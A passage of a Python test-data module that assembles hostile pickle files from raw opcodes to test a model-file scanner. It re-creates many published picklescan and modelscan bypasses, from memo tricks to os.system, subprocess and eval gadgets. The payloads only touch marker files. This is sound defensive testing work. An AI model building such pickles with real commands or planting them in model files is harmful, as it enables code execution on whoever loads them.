"""The hostile-pickle corpus of tests/unit/test_scan_hostile.py, written at test time.

Every file is assembled from raw opcodes (and zip/tar/gzip/... containers around them) by
this module; nothing is downloaded and nothing hostile is ever unpickled by the process that
builds or scans it. Each case's payload, if a loader ran it, would create the case's own
marker file (``marker_dir / case.name``): a shell ``touch``, a Python ``open(..., 'w')``,
or a constructor that creates the file. Cases marked ``live`` are loaded for real by the
control test, in a child process, to prove the payload works; the others need a library or
platform the tests do not have (torch, dill, idlelib, pty, a browser) or would hang.

``bypass`` says which scanner had the bypass that the case re-creates (advisory ids of
mmaitre314/picklescan and protectai/modelscan), or "-" for a case of our own.

Run as a script to write the corpus into a folder for inspection:

    python tests/data/pickles/make_hostile.py /tmp/hostile
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# --------------------------------------------------------------------------------------
# opcodes


def s(text: str) -> bytes:
    """Push a str (SHORT_BINUNICODE, or BINUNICODE when long)."""
    data = text.encode("utf-8")
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def b(data: bytes) -> bytes:
    """Push bytes (SHORT_BINBYTES / BINBYTES)."""
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def p0s(text: str) -> bytes:
    """Push a str with the protocol-0 STRING opcode."""
    return b"S" + repr(text).encode("ascii") + b"\n"


def sg(module: str, name: str) -> bytes:
    """module.name via STACK_GLOBAL from two pushed strings."""
    return s(module) + s(name) + b"\x93"


def call1(func: bytes, arg: bytes) -> bytes:
    return func + arg + b"\x85R"


def call2(func: bytes, a1: bytes, a2: bytes) -> bytes:
    return func + a1 + a2 + b"\x86R"


def calln(func: bytes, *args: bytes) -> bytes:
    return func + b"(" + b"".join(args) + b"tR"


P4 = b"\x80\x04"
P2 = b"\x80\x02"
STOP = b"."
MEMOIZE = b"\x94"


def binput(i: int) -> bytes:
    return b"q" + bytes([i])


def binget(i: int) -> bytes:
    return b"h" + bytes([i])


def long_binput(i: int) -> bytes:
    return b"r" + struct.pack("<I", i)


def long_binget(i: int) -> bytes:
    return b"j" + struct.pack("<I", i)


# --------------------------------------------------------------------------------------
# cases


@dataclass(frozen=True)
class Case:
    name: str
    file: str  # relative path written under the corpus folder
    bypass: str  # which scanner had it (advisory / issue), or "-"
    what: str
    load: str  # how the control loads it: pickle, multi, gzip, bz2, xz, joblib, numpy, ...
    live: bool


@dataclass
class Corpus:
    root: Path
    markers: Path
    cases: list[Case]

    def marker(self, name: str) -> Path:
        return self.markers / name


def build(root: Path, markers: Path) -> Corpus:
    """Write every case under ``root``; payloads would create files under ``markers``."""
    root.mkdir(parents=True, exist_ok=True)
    markers.mkdir(parents=True, exist_ok=True)
    corpus = Corpus(root=root, markers=markers, cases=[])
    for maker in _MAKERS:
        maker(corpus)
    return corpus


_MAKERS: list[Callable[[Corpus], None]] = []


def maker(fn: Callable[[Corpus], None]) -> Callable[[Corpus], None]:
    _MAKERS.append(fn)
    return fn


def _add(
    c: Corpus,
    name: str,
    data: bytes,
    *,
    file: str | None = None,
    bypass: str = "-",
    what: str,
    load: str = "pickle",
    live: bool = True,
) -> None:
    rel = file or f"{name}.pkl"
    path = c.root / name / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    c.cases.append(Case(name=name, file=f"{name}/{rel}", bypass=bypass, what=what, load=load, live=live))


def sh(c: Corpus, name: str) -> str:
    return f"touch {c.marker(name)}"


def py(c: Corpus, name: str) -> str:
    return f"open({str(c.marker(name))!r}, 'w').close()"


def system(c: Corpus, name: str) -> bytes:
    """os.system('touch marker') as STACK_GLOBAL + REDUCE (protocol 4 body, no PROTO)."""
    return call1(sg("os", "system"), s(sh(c, name)))


# --- opcode-level tricks -----------------------------------------------------------------


@maker
def _protocol0(c: Corpus) -> None:
    n = "p0_global_system"
    _add(c, n, b"cos\nsystem\n(" + p0s(sh(c, n)) + b"tR.", what="protocol 0 GLOBAL os.system")
    n = "p0_inst_system"
    _add(c, n, b"(" + p0s(sh(c, n)) + b"ios\nsystem\n.", what="protocol 0 INST os.system")
    n = "p0_obj_popen"
    _add(
        c,
        n,
        b"(csubprocess\nPopen\n(" + p0s("sh") + p0s("-c") + p0s(sh(c, n)) + b"lo.",
        what="OBJ opcode instantiating subprocess.Popen",
    )
    n = "py2_builtin_eval"
    _add(
        c,
        n,
        b"c__builtin__\neval\n(" + p0s(py(c, n)) + b"tR.",
        bypass="- (picklescan lists both spellings of builtins)",
        what="Python 2 module name __builtin__.eval (fix_imports maps it)",
    )
    n = "py2_copy_reg_add_extension"
    _add(
        c,
        n,
        P2
        + b"ccopy_reg\nadd_extension\n("
        + p0s("os")
        + p0s("system")
        + b"K\xf0tR0"
        + b"\x82\xf0("
        + p0s(sh(c, n))
        + b"tR.",
        what="copy_reg.add_extension registers os.system, EXT1 calls it",
    )
    n = "no_proto_first_opcode_none"
    _add(c, n, b"N0cos\nsystem\n(" + p0s(sh(c, n)) + b"tR.", what="pickle starting with NONE (no PROTO)")
    n = "proto_1_header"
    _add(c, n, b"\x80\x01cos\nsystem\n(" + p0s(sh(c, n)) + b"tR.", what="PROTO 1 header")
    n = "ckpt_protocol0"
    _add(
        c,
        n,
        b"(dp0\ncos\nsystem\n(" + p0s(sh(c, n)) + b"tR.",
        file="model.ckpt",
        bypass="picklescan CVE-2025-10155 / GHSA-gx77-x2pv-48v7 (extension decides the scanner)",
        what="protocol 0 pickle in a .ckpt file",
    )
    n = "unicode_escape_names"
    _add(
        c,
        n,
        b"V\\u006fs\nVsy\\u0073tem\n\x93V" + sh(c, n).encode() + b"\n\x85R.",
        what="UNICODE opcodes with escapes spelling os/system, STACK_GLOBAL without PROTO",
    )
    n = "truncated_after_reduce"
    _add(
        c,
        n,
        b"cos\nsystem\n(" + p0s(sh(c, n)) + b"tR",
        what="truncated pickle: the call runs before the loader notices",
    )


@maker
def _memo(c: Corpus) -> None:
    n = "memo_binput_overwrite"
    _add(
        c,
        n,
        P4
        + s("collections")
        + binput(1)
        + b"0"
        + s("OrderedDict")
        + binput(2)
        + b"0"
        + s("os")
        + binput(1)  # overwrites the benign module name
        + b"0"
        + s("system")
        + binput(2)
        + b"0"
        + binget(1)
        + binget(2)
        + b"\x93"
        + s(sh(c, n))
        + b"\x85R.",
        bypass="picklescan #23 (memo zero-day, 2023)",
        what="benign names memoized, slots overwritten by BINPUT, fetched by BINGET",
    )
    n = "memo_long_binget"
    _add(
        c,
        n,
        P4
        + s("os")
        + long_binput(70000)
        + b"0"
        + s("system")
        + long_binput(70001)
        + b"0"
        + long_binget(70000)
        + long_binget(70001)
        + b"\x93"
        + s(sh(c, n))
        + b"\x85R.",
        what="LONG_BINPUT / LONG_BINGET at large memo indices",
    )
    n = "memo_memoize_decoys"
    _add(
        c,
        n,
        P4
        + s("torch")
        + MEMOIZE  # 0
        + s("os")
        + MEMOIZE  # 1
        + s("LongStorage")
        + MEMOIZE  # 2
        + s("system")
        + MEMOIZE  # 3
        + b"0000"
        + binget(1)
        + binget(3)
        + b"\x93"
        + s(sh(c, n))
        + b"\x85R.",
        bypass="picklescan #22 (CTF 'Safe Pickle': memo decoys)",
        what="MEMOIZE of decoy names, dangerous ones fetched back",
    )
    n = "memo_mixed_put_memoize"
    _add(
        c,
        n,
        P4
        + s("os")
        + binput(0)
        + s("system")
        + binput(1)
        + b"00"
        + s("torch._utils")
        + MEMOIZE  # len(memo) is 2: stored at 2, not 0
        + s("_rebuild_tensor_v2")
        + MEMOIZE
        + b"00"
        + binget(0)
        + binget(1)
        + b"\x93"
        + s(sh(c, n))
        + b"\x85R.",
        bypass="picklescan #14 (memo dict confusion: BINPUT mixed with MEMOIZE)",
        what="BINPUT and MEMOIZE mixed so a naive memo model sees torch._utils",
    )
    n = "build_sets_global_attributes"
    _add(
        c,
        n,
        P4
        + sg("numpy", "prod")
        + b"N}" + s("a") + s("os") + b"s" + s("b") + s("system") + b"s\x86b"
        + b"0"
        + sg("numpy", "prod.a")
        + MEMOIZE
        + sg("numpy", "prod.b")
        + MEMOIZE
        + b"00"
        + binget(0)
        + binget(1)
        + b"\x93"
        + s(sh(c, n))
        + b"\x85R.",
        bypass="modelscan #85 (BUILD slot state on a global, read back by dotted names)",
        what="BUILD stores 'os'/'system' on numpy.prod, STACK_GLOBAL reads them back",
    )
    n = "build_global_builtins_shape"
    _add(
        c,
        n,
        P4
        + sg("numpy", "size")
        + MEMOIZE
        + b"N}" + s("shape") + sg("numpy", "__builtins__") + b"s\x86b"
        + b"0"
        + call2(binget(0), binget(0), s("eval"))
        + s(py(c, n))
        + b"\x85R.",
        bypass="modelscan #330 (numpy.size over a planted shape attribute)",
        what="numpy.size(f, 'eval') after BUILD set f.shape to the builtins namespace",
        live=False,  # numpy 2 checks the axis type first; numpy 1.x returns eval
    )
    n = "memo_text_put_get"
    _add(
        c,
        n,
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0g2\ng3\n\x93(V" + sh(c, n).encode() + b"\ntR.",
        bypass="picklescan #22",
        what="protocol 0 PUT/GET memo feeding STACK_GLOBAL",
    )
    n = "memo_missing_key"
    _add(
        c,
        n,
        P4 + system(c, n) + b"0" + s("os") + MEMOIZE + binget(9) + binget(0) + b"\x93" + STOP,
        bypass="picklescan #52, modelscan #348 (GET of a missing memo key aborts the scan)",
        what="a dangerous call, then a STACK_GLOBAL over a memo key that does not exist",
    )
    n = "memo_dup"
    _add(
        c,
        n,
        P4 + s("os") + b"2" + b"0" + s("system") + b"\x93" + s(sh(c, n)) + b"\x85R.",
        what="DUP then POP before STACK_GLOBAL",
    )
    n = "stack_global_from_strings"
    _add(
        c,
        n,
        p0s("os") + p0s("system") + b"\x93" + p0s(sh(c, n)) + b"\x85R.",
        bypass="picklescan GHSA-9gvj-pp9x-gcfr (STRING operands of STACK_GLOBAL)",
        what="STACK_GLOBAL fed by protocol 0 STRING opcodes",
    )
    n = "stack_global_computed"
    _add(
        c,
        n,
        P4
        + call2(sg("builtins", "str.__add__"), s("o"), s("s"))
        + s("system")
        + b"\x93"
        + s(sh(c, n))
        + b"\x85R.",
        what="module name computed at load time (str.__add__('o', 's'))",
    )
    n = "stack_global_joined"
    _add(
        c,
        n,
        P4
        + call2(sg("builtins", "str.join"), s(""), b"(" + s("sys") + s("tem") + b"l")
        + MEMOIZE
        + b"0"
        + s("os")
        + binget(0)
        + b"\x93"
        + s(sh(c, n))
        + b"\x85R.",
        what="name built by str.join and fetched from the memo",
    )


@maker
def _ext(c: Corpus) -> None:
    # each case registers another key: the control loads them all in one process
    def reg(module: str, name: str) -> bytes:
        return P2 + b"ccopyreg\nadd_extension\n(" + p0s(module) + p0s(name)

    n = "ext1"
    _add(
        c,
        n,
        reg("posix", "system") + b"K\x07tR0\x82\x07(" + p0s(sh(c, n)) + b"tR.",
        what="EXT1 after add_extension",
    )
    n = "ext2"
    _add(
        c,
        n,
        reg("subprocess", "getoutput") + b"M\x34\x12tR0\x83\x34\x12(" + p0s(sh(c, n)) + b"tR.",
        what="EXT2 after add_extension",
    )
    n = "ext4"
    _add(
        c,
        n,
        reg("subprocess", "getstatusoutput") + b"J\x78\x56\x34\x12tR0\x84\x78\x56\x34\x12(" + p0s(sh(c, n)) + b"tR.",
        what="EXT4 after add_extension",
    )
    n = "ext2_bare"
    _add(
        c,
        n,
        P2 + b"\x83\x00\x01(" + p0s(sh(c, n)) + b"tR.",
        what="EXT2 alone (the loader's registry decides what it calls)",
        live=False,
    )


# --- routes to os.system without naming it -----------------------------------------------


@maker
def _routes(c: Corpus) -> None:
    n = "getattr_chain"
    mod = call1(sg("builtins", "__import__"), s("os"))
    _add(
        c,
        n,
        P4 + call1(call2(sg("builtins", "getattr"), mod, s("system")), s(sh(c, n))) + STOP,
        what="__reduce__ returning (getattr, (module, 'system')) built by a chain",
    )
    n = "getattr_subclass_module"
    _add(
        c,
        n,
        P4
        + call1(
            call2(sg("builtins", "getattr"), call1(sg("importlib", "import_module"), s("os")), s("system")),
            s(sh(c, n)),
        )
        + STOP,
        what="importlib.import_module('os') then getattr",
    )
    n = "attrgetter_chain"
    _add(
        c,
        n,
        P4
        + call1(
            call1(call1(sg("operator", "attrgetter"), s("system")), call1(sg("builtins", "__import__"), s("os"))),
            s(sh(c, n)),
        )
        + STOP,
        bypass="picklescan GHSA-955r-x9j8-7rhh / GHSA-46h3-79wf-xr6c (_operator)",
        what="operator.attrgetter('system')(__import__('os'))",
    )
    n = "methodcaller_operator"
    _add(
        c,
        n,
        P4
        + call1(
            call2(sg("_operator", "methodcaller"), s("system"), s(sh(c, n))),
            call1(sg("importlib", "import_module"), s("os")),
        )
        + STOP,
        what="_operator.methodcaller('system', cmd)(import_module('os'))",
    )
    n = "pydoc_locate_methodcaller"
    _add(
        c,
        n,
        P4
        + call1(call2(sg("operator", "methodcaller"), s("system"), s(sh(c, n))), call1(sg("pydoc", "locate"), s("os")))
        + STOP,
        bypass="picklescan GHSA-84r2-jw7c-4r5q",
        what="pydoc.locate('os') and operator.methodcaller",
    )
    n = "pkgutil_resolve_name"
    _add(
        c,
        n,
        P4 + call1(call1(sg("pkgutil", "resolve_name"), s("os:system")), s(sh(c, n))) + STOP,
        bypass="picklescan GHSA-vvpj-8cmc-gx39",
        what="pkgutil.resolve_name('os:system')",
    )
    n = "sys_modules_reach"
    _add(
        c,
        n,
        P4
        + call1(
            call1(call1(sg("operator", "attrgetter"), s("system")), call2(sg("builtins", "dict.get"), sg("sys", "modules"), s("os"))),
            s(sh(c, n)),
        )
        + STOP,
        what="sys.modules['os'] via dict.get",
    )
    n = "dotted_name_via_benign_module"
    _add(
        c,
        n,
        P4 + call1(sg("logging", "os.system"), s(sh(c, n))) + STOP,
        what="protocol 4 dotted name: logging.os.system (a benign module's import of os)",
    )
    n = "main_builtins_exec"
    _add(
        c,
        n,
        P4 + call1(sg("__main__", "__builtins__.exec"), s(py(c, n))) + STOP,
        what="__main__.__builtins__.exec",
    )
    n = "builtins_dict_itemgetter"
    _add(
        c,
        n,
        P4 + call1(call1(call1(sg("operator", "itemgetter"), s("exec")), sg("builtins", "__dict__")), s(py(c, n))) + STOP,
        what="itemgetter('exec')(builtins.__dict__) then a call of the computed callable",
    )
    n = "marshal_functiontype"
    code = compile(py(c, n), "<payload>", "exec")
    func = call2(sg("types", "FunctionType"), call1(sg("marshal", "loads"), b(marshal.dumps(code))), b"}")
    _add(c, n, P4 + func + b")R" + STOP, what="types.FunctionType(marshal.loads(code), {})()")
    n = "codetype_direct"
    _add(
        c,
        n,
        P4 + sg("types", "CodeType") + b"(K\x00K\x00K\x00K\x00K\x00K\x00" + b(b"d\x00S\x00") + b"tR" + STOP,
        bypass="picklescan GHSA-9m3x-qqw2-h32h (types.CodeType)",
        what="types.CodeType built from raw fields",
        live=False,
    )
    n = "runpy_run_code"
    _add(c, n, P4 + call2(sg("runpy", "_run_code"), s(py(c, n)), b"}") + STOP, what="runpy._run_code")
    n = "pickle_loads_nested"
    inner = P4 + system(c, n) + STOP
    _add(
        c,
        n,
        P4 + call1(sg("pickle", "loads"), b(inner)) + STOP,
        bypass="picklescan malicious13 (pickle.loads)",
        what="pickle.loads of a nested pickle",
    )
    n = "torch_serialization_load"
    _add(
        c,
        n,
        P4 + call1(sg("torch.serialization", "load"), s("other.pt")) + STOP,
        bypass="picklescan malicious19 (torch.load via functools.partial)",
        what="torch.serialization.load of another file",
        live=False,
    )
    n = "torch_load_top_level"
    _add(
        c,
        n,
        P4 + call1(sg("torch", "load"), s("other.pt")) + STOP,
        what="torch.load (the same function under the package name)",
        live=False,
    )
    n = "numpy_runstring"
    _add(
        c,
        n,
        P4 + call2(sg("numpy.testing._private.utils", "runstring"), s(py(c, n)), b"}") + STOP,
        bypass="picklescan malicious22 (numpy runstring)",
        what="numpy.testing._private.utils.runstring",
    )
    n = "ctypes_cdll"
    _add(
        c,
        n,
        P4
        + call1(call2(sg("operator", "methodcaller"), s("system"), b(sh(c, n).encode())), call1(sg("ctypes", "CDLL"), b"N"))
        + STOP,
        bypass="picklescan GHSA-4675-36f9-wf6r (ctypes)",
        what="ctypes.CDLL(None).system",
    )
    # a subimported module is harmless in a by-value function's globals (EB502 covers
    # that code); passed to a call it is a way to os.system without naming it
    n = "cloudpickle_subimport_os"
    _add(
        c,
        n,
        P4
        + call1(
            call2(sg("inspect", "getattr_static"), call1(sg("cloudpickle.cloudpickle", "subimport"), s("os")), s("system")),
            s(sh(c, n)),
        )
        + STOP,
        what="cloudpickle subimport('os') passed to a call",
    )
    n = "cloudpickle_subimport_subprocess"
    _add(
        c,
        n,
        P4
        + calln(sg("functools", "partial"), sg("copy", "copy"), call1(sg("cloudpickle", "subimport"), s("subprocess")))
        + b")R"
        + STOP,
        what="cloudpickle subimport('subprocess') handed to functools.partial",
        live=False,
    )
    n = "cloudpickle_dynamic_subimport"
    _add(
        c,
        n,
        P4 + call1(sg("copy", "copy"), call2(sg("cloudpickle.cloudpickle", "dynamic_subimport"), s("os"), b"}")) + STOP,
        what="cloudpickle dynamic_subimport('os', {}) passed to a call",
        live=False,
    )
    n = "cloudpickle_subimport_getattr"
    _add(
        c,
        n,
        P4
        + call1(call2(sg("builtins", "getattr"), call1(sg("cloudpickle.cloudpickle", "subimport"), s("os")), s("system")), s(sh(c, n)))
        + STOP,
        what="cloudpickle subimport('os') then getattr system",
    )
    n = "dill_get_attr"
    _add(
        c,
        n,
        P4
        + call1(call2(sg("dill._dill", "_get_attr"), call1(sg("dill._dill", "_import_module"), s("os")), s("system")), s(sh(c, n)))
        + STOP,
        what="dill's _get_attr(_import_module('os'), 'system')",
        live=False,
    )


# --- callables of the standard library and of ML packages that run code ------------------

# (case, module, name, args as opcodes given the corpus and case, bypass, live)
_GADGETS: list[tuple[str, str, str, Callable[[Corpus, str], bytes], str, bool]] = [
    ("timeit_timeit", "timeit", "timeit", lambda c, n: s("pass") + s(py(c, n)) + b"\x86", "picklescan malicious21 (timeit)", True),
    ("cprofile_run", "cProfile", "run", lambda c, n: s(py(c, n)) + b"\x85", "picklescan GHSA-49gj-c84q-6qm9", True),
    ("cprofile_runctx", "cProfile", "runctx", lambda c, n: s(py(c, n)) + b"}}\x87", "picklescan GHSA-9w88-8rmg-7g2p", True),
    ("profile_run", "profile", "run", lambda c, n: s(py(c, n)) + b"\x85", "picklescan GHSA-7wx9-6375-f5wh", True),
    ("profile_method_run", "profile", "Profile.run", lambda c, n: sg("profile", "Profile") + b")R" + s(py(c, n)) + b"\x86", "picklescan GHSA-x696-vm39-cp64", True),
    ("trace_runctx", "trace", "Trace.runctx", lambda c, n: b"(" + sg("trace", "Trace") + b")R" + s(py(c, n)) + b"}}t", "picklescan GHSA-g344-hcph-8vgg", False),
    ("bdb_run", "bdb", "Bdb.run", lambda c, n: sg("bdb", "Bdb") + b")R" + s(py(c, n)) + b"\x86", "picklescan malicious15 (bdb)", True),
    ("code_interactive_runcode", "code", "InteractiveInterpreter.runcode", lambda c, n: sg("code", "InteractiveInterpreter") + b")R" + s(py(c, n)) + b"\x86", "picklescan GHSA-cj3c-v495-4xqh", True),
    ("pdb_run", "pdb", "run", lambda c, n: s(py(c, n)) + b"\x85", "-", False),
    ("subprocess_run", "subprocess", "run", lambda c, n: b"(" + s("sh") + s("-c") + s(sh(c, n)) + b"l\x85", "picklescan malicious8", True),
    ("subprocess_getoutput", "subprocess", "getoutput", lambda c, n: s(sh(c, n)) + b"\x85", "-", True),
    ("posixsubprocess_module", "_posixsubprocess", "fork_exec", lambda c, n: b")", "-", False),
    ("pty_spawn", "pty", "spawn", lambda c, n: b"(" + s("sh") + s("-c") + s(sh(c, n)) + b"l\x85", "picklescan GHSA-vqmv-47xg-9wpr", False),
    ("webbrowser_open", "webbrowser", "open", lambda c, n: s("file://" + str(c.marker(n))) + b"\x85", "-", False),
    ("pip_main", "pip", "main", lambda c, n: b"(" + s("install") + s("nothing-here") + b"l\x85", "picklescan CVE-2025-1716 / GHSA-655q-fx9r-782v (pip.main)", False),
    ("pip_internal", "pip._internal.cli.main", "main", lambda c, n: b"(" + s("--version") + b"l\x85", "-", False),
    ("ensurepip_run_pip", "ensurepip", "_run_pip", lambda c, n: b"(" + s("--version") + b"l\x85", "picklescan GHSA-xp4f-hrf8-rxw7", False),
    ("venv_create", "venv", "create", lambda c, n: s(str(c.marker(n))) + b"\x85", "picklescan malicious20 (venv)", False),
    ("asyncio_submodule", "asyncio.unix_events", "_UnixSubprocessTransport._start", lambda c, n: b"(}" + s(sh(c, n)) + b"\x88NNNK\x00t", "picklescan GHSA-q77w-mwjj-7mqx, CVE-2025-10157 (submodule of a blocked package)", False),
    ("uuid_get_command_stdout", "uuid", "_get_command_stdout", lambda c, n: s("sh") + s("-c") + s(sh(c, n)) + b"\x87", "picklescan GHSA-g38g-8gr9-h9xp", True),
    ("imaplib_stream", "imaplib", "IMAP4_stream", lambda c, n: s(sh(c, n)) + b"\x85", "picklescan GHSA-g38g-8gr9-h9xp", False),
    ("osx_support_read_output", "_osx_support", "_read_output", lambda c, n: s(sh(c, n)) + b"\x85", "picklescan GHSA-g38g-8gr9-h9xp", True),
    ("aix_support_read_cmd", "_aix_support", "_read_cmd_output", lambda c, n: s(sh(c, n)) + b"\x85", "picklescan GHSA-g38g-8gr9-h9xp", False),
    ("pyrepl_pager", "_pyrepl.pager", "pipe_pager", lambda c, n: s("x") + s(sh(c, n)) + b"\x86", "picklescan GHSA-g38g-8gr9-h9xp", False),
    ("logging_filehandler", "logging", "FileHandler", lambda c, n: s(str(c.marker(n))) + b"\x85", "picklescan GHSA-m7j5-r2p5-c39r (logging.FileHandler)", True),
    ("io_fileio", "_io", "FileIO", lambda c, n: s(str(c.marker(n))) + s("w") + b"\x86", "picklescan GHSA-9726-w42j-3qjr (_io.FileIO)", True),
    ("io_open", "io", "open", lambda c, n: s(str(c.marker(n))) + s("w") + b"\x86", "-", True),
    ("builtins_open", "builtins", "open", lambda c, n: s(str(c.marker(n))) + s("w") + b"\x86", "-", True),
    ("shutil_copy", "shutil", "copyfile", lambda c, n: s("/dev/null") + s(str(c.marker(n))) + b"\x86", "-", True),
    ("doctest_debug_script", "doctest", "debug_script", lambda c, n: s(py(c, n)) + b"\x85", "picklescan GHSA-fqq6-7vqf-w3fg", False),
    ("idlelib_run_executive", "idlelib.run", "Executive.runcode", lambda c, n: b"}" + s(py(c, n)) + b"\x86", "picklescan GHSA-m869-42cg-3xwr", False),
    ("idlelib_calltip", "idlelib.calltip", "get_entity", lambda c, n: s(py(c, n)) + b"\x85", "picklescan GHSA-9xph-j2h6-g47v", False),
    ("lib2to3_grammar_loads", "lib2to3.pgen2.grammar", "Grammar.loads", lambda c, n: b"}" + b(b"") + b"\x86", "picklescan GHSA-f54q-57x4-jg88", False),
    ("lib2to3_make_label", "lib2to3.pgen2.pgen", "ParserGenerator.make_label", lambda c, n: b"N}" + s(py(c, n)) + b"\x87", "picklescan GHSA-p9w7-82w4-7q8m", False),
    ("distutils_write_file", "distutils.file_util", "write_file", lambda c, n: s(str(c.marker(n))) + b"]\x86", "picklescan GHSA-m273-6v24-x4m4", False),
    ("test_support_script_helper", "test.support.script_helper", "assert_python_ok", lambda c, n: s("-c") + s(py(c, n)) + b"\x86", "picklescan GHSA-g38g-8gr9-h9xp era (test.support)", False),
    ("numpy_f2py_getlincoef", "numpy.f2py.crackfortran", "getlincoef", lambda c, n: s(py(c, n)) + b"]\x86", "picklescan GHSA-r8g5-cgf2-4m4m", False),
    ("torch_inductor_compile_file", "torch._inductor.codecache", "compile_file", lambda c, n: s("") + s("") + b"(" + s("sh") + s("-c") + s(sh(c, n)) + b"l\x87", "picklescan malicious17", False),
    ("torch_bottleneck", "torch.utils.bottleneck.__main__", "run_cprofile", lambda c, n: s(py(c, n)) + b"}\x86", "picklescan GHSA-4r9r-ch6f-vxmx", False),
    ("torch_dynamo_guards", "torch._dynamo.guards", "GuardBuilder.get", lambda c, n: b"}" + s(py(c, n)) + b"\x86", "picklescan GHSA-86cj-95qr-2p4f", False),
    ("torch_symbolic_shapes", "torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", lambda c, n: b"}" + s(py(c, n)) + b"]\x87", "picklescan GHSA-f4x7-rfwp-v3xw", False),
    ("torch_collect_env", "torch.utils.collect_env", "run", lambda c, n: s(sh(c, n)) + b"\x85", "picklescan GHSA-f745-w6jp-hpxx", False),
    ("torch_datapipes_decoder", "torch.utils.data.datapipes.utils.decoder", "basichandlers", lambda c, n: s("pickle") + b(b"") + b"\x86", "picklescan GHSA-h3qp-7fh3-f8h4", False),
    ("torch_jit_exec_wrapper", "torch.jit.unsupported_tensor_ops", "execWrapper", lambda c, n: s(py(c, n)) + b"}}\x87", "picklescan GHSA-vr7h-p6mm-wpmh", False),
    ("torch_config_module", "torch.utils._config_module", "ConfigModule.load_config", lambda c, n: b"}" + b(b"") + b"\x86", "picklescan GHSA-vv6j-3g6g-2pvj", False),
    ("torch_hub_load", "torch.hub", "load", lambda c, n: s("owner/repo") + s("model") + b"\x86", "-", False),
    ("socket_connection", "socket", "create_connection", lambda c, n: s("127.0.0.1") + b"K\x01\x86\x85", "picklescan malicious6", False),
    ("urllib_urlopen", "urllib.request", "urlopen", lambda c, n: s("file://" + str(c.marker(n))) + b"\x85", "picklescan GHSA-9726-w42j-3qjr (urllib.request)", False),
    ("http_client", "http.client", "HTTPSConnection", lambda c, n: s("127.0.0.1") + b"\x85", "picklescan malicious3", False),
    ("requests_get", "requests.api", "get", lambda c, n: s("http://127.0.0.1:9") + b"\x85", "picklescan malicious4", False),
    ("sys_exit", "sys", "exit", lambda c, n: b"K\x00\x85", "picklescan malicious9", False),
    ("multiprocessing_spawnv_passfds", "multiprocessing.util", "spawnv_passfds", lambda c, n: b(b"/bin/sh") + b"(" + s("sh") + s("-c") + s(sh(c, n)) + b"t)\x87", "modelscan #338", True),
    ("mlflow_run_entry_point", "mlflow.projects.backend.local", "_run_entry_point", lambda c, n: b"(" + s(sh(c, n)) + s(".") + s("") + b"}t", "modelscan #338", False),
    ("pandas_read_csv_url", "pandas.io.parsers.readers", "read_csv", lambda c, n: s("http://127.0.0.1:9/x") + b"\x85", "modelscan #338 (exfiltration)", False),
    ("mailcap_findmatch", "mailcap", "findmatch", lambda c, n: b"}" + s("text/plain") + b"\x86", "modelscan #346", False),
    ("pickle_module_underscore", "_pickle", "loads", lambda c, n: b(P4 + system(c, n) + STOP) + b"\x85", "modelscan #270 (_pickle)", True),
    ("unittest_main_module", "unittest.__main__", "main", lambda c, n: b")", "-", False),
    ("antigravity_import", "antigravity", "geohash", lambda c, n: b")", "-", False),
    ("logging_config_dict", "logging.config", "dictConfig", lambda c, n: b"}", "-", False),
    ("site_addsitedir", "site", "addsitedir", lambda c, n: s(str(c.marker(n))) + b"\x85", "-", False),
    ("zipimport_importer", "zipimport", "zipimporter", lambda c, n: s(str(c.marker(n))) + b"\x85", "-", False),
    ("pathlib_touch", "pathlib", "Path.touch", lambda c, n: call1(sg("pathlib", "Path"), s(str(c.marker(n)))) + b"\x85", "-", True),
]


@maker
def _gadgets(c: Corpus) -> None:
    for name, module, attr, args, bypass, live in _GADGETS:
        _add(
            c,
            name,
            P4 + sg(module, attr) + args(c, name) + b"R" + STOP,
            bypass=bypass,
            what=f"{module}.{attr}",
            live=live,
        )


# --- cloudpickle code by value called at load time ---------------------------------------


@maker
def _cloudpickle_called(c: Corpus) -> None:
    import cloudpickle  # a dev dependency (via mlflow); writes by-value code, runs nothing

    n = "cloudpickle_byvalue_called"
    marker = str(c.marker(n))

    def make() -> object:
        def touch(path: str) -> None:
            open(path, "w").close()

        class Reducer:
            def __reduce__(self) -> tuple[object, tuple[str]]:
                return touch, (marker,)

        return Reducer()

    _add(
        c,
        n,
        cloudpickle.dumps(make(), protocol=4),
        bypass="picklescan GHSA-9m3x-qqw2-h32h (cloudpickle by-value code)",
        what="a by-value function called by REDUCE while loading",
    )


# --- more than one pickle, and parsing that fails ---------------------------------------


@maker
def _streams(c: Corpus) -> None:
    n = "second_pickle_without_proto"
    _add(
        c,
        n,
        P2 + b"K\x01." + b"cos\nsystem\n(" + p0s(sh(c, n)) + b"tR.",
        file="legacy.pt",
        what="legacy torch-style sequence of pickles; the second has no PROTO",
        load="multi",
    )
    n = "fifth_pickle"
    magic = P2 + b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
    _add(
        c,
        n,
        magic + P2 + b"M\xe9\x03." + P2 + b"}." + P2 + b"]." + P2 + system(c, n) + STOP,
        file="legacy.pt",
        bypass="picklescan GHSA-97f8-7cmv-76j2 (legacy torch file, later pickles)",
        what="five pickles, the dangerous one last",
        load="multi",
    )
    n = "garbage_middle_literal"
    good = P4 + s("a") + b"K\x01" + b"\x86"
    _add(
        c,
        n,
        good + b"\xff\xfe" + b"cos\nsystem\n(" + p0s(sh(c, n)) + b"tR.",
        what="valid opcodes, unknown bytes, then a protocol 0 global",
        live=False,
    )
    n = "garbage_middle_stack_global"
    _add(
        c,
        n,
        good + b"\xff" + P4 + system(c, n) + STOP,
        what="valid opcodes, an unknown byte, then a protocol 4 STACK_GLOBAL",
        live=False,
    )
    n = "garbage_middle_memo"
    _add(
        c,
        n,
        P4 + s("os") + MEMOIZE + s("system") + MEMOIZE + b"00" + b"\xff" + binget(0) + binget(1) + b"\x93" + s(sh(c, n)) + b"\x85R.",
        what="names memoized before an unknown byte, fetched after it",
        live=False,
    )
    n = "garbage_middle_binunicode"
    _add(
        c,
        n,
